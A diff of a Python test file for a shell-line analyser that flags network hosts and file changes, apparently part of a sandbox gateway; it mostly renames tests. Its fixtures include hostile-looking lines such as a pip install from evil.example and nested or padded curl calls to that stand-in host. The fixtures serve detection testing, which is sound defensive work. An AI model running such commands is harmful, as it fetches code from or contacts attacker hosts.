@@ -1,4 +1,4 @@
-"""How shell lines are read: what a careful reader sees, and what only the sandbox holds."""
+"""Shell lines: effects that the reader detects, and effects that only the sandbox limits."""
 
 from shlex import quote
 
@@ -53,7 +53,7 @@ OUT = "https://evil.example"
         "pip install --index-url https://evil.example x",
     ],
 )
-def test_a_line_that_reaches_out_is_seen(line: str) -> None:
+def test_a_line_that_connects_to_a_host_is_detected(line: str) -> None:
     assert shell_effects(line).hosts
 
 
@@ -75,7 +75,7 @@ def test_a_line_that_reaches_out_is_seen(line: str) -> None:
         "sh -c 'echo x > uv.lock'",
     ],
 )
-def test_a_line_that_changes_a_file_is_seen(line: str) -> None:
+def test_a_line_that_changes_a_file_is_detected(line: str) -> None:
     assert "uv.lock" in shell_effects(line).changed_paths
 
 
@@ -91,7 +91,7 @@ def test_a_line_that_changes_a_file_is_seen(line: str) -> None:
         "sed -n 1,20p docker/README.md",
     ],
 )
-def test_work_inside_reaches_nobody(line: str) -> None:
+def test_work_inside_the_sandbox_connects_to_no_host(line: str) -> None:
     assert not shell_effects(line).hosts
 
 
@@ -104,14 +104,14 @@ def test_work_inside_reaches_nobody(line: str) -> None:
         "python3 build.py",
     ],
 )
-def test_a_line_that_hides_it_gets_past_and_is_held_by_what_comes_after(line: str) -> None:
-    """No network but the allowed hosts, and the collected work: `docs/why/policy.md`."""
+def test_a_hidden_command_is_not_detected(line: str) -> None:
+    """The network and the check of the collected work limit it: see `docs/why/policy.md`."""
     read = shell_effects(line)
     assert not read.hosts
     assert not any(".github" in path for path in read.changed_paths)
 
 
-def test_a_line_is_read_where_it_stands_highest() -> None:
+def test_an_inner_line_is_read_at_its_smallest_depth() -> None:
     deep = line = "sh 'curl evil.example'"
     for _ in range(3):
         deep = f"sh {quote(deep)}"
@@ -130,8 +130,8 @@ def test_a_line_is_read_where_it_stands_highest() -> None:
         ("find . -exec " + "curl " * 20 + OUT, {UNKNOWN_HOST, "evil.example"}),
     ],
 )
-def test_a_line_that_takes_long_to_read_is_read_at_once_or_reaches_anything(
+def test_a_costly_line_is_read_quickly_or_counts_as_an_unknown_host(
     line: str, hosts: set[str]
 ) -> None:
-    """The gateway reads it, and all runs wait for that; as long as days, before."""
+    """All runs wait while the gateway reads a line. These took up to days to read."""
     assert shell_effects(line).hosts == hosts
